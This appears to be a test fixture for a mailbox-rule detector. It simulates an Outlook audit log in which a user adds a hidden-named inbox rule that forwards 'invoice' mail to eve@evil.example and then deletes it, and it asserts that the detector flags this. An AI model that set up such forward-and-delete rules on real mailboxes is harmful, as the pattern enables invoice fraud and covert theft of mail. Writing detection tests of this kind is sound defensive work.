# Outlook on the desktop tells of its rules in the mailbox's own log.
domain fabrikam.com
person amy "Amy Adams"

mon 02:00 amy runs UpdateInboxRules RuleOperation="AddMailboxRule" RuleId="0" RuleName=".." RuleState="Enabled, ExitAfterExecution" RuleCondition="(SubString(SubjectProperty, \"invoice\"))" RuleActions="[{\"ActionType\":\"Forward\",\"Recipients\":[\"eve@evil.example\"],\"ForwardFlags\":\"None\"},{\"ActionType\":\"Delete\"}]"
expect forward-outside amy risk 70 says "eve@evil.example"
expect hides-money-mail amy
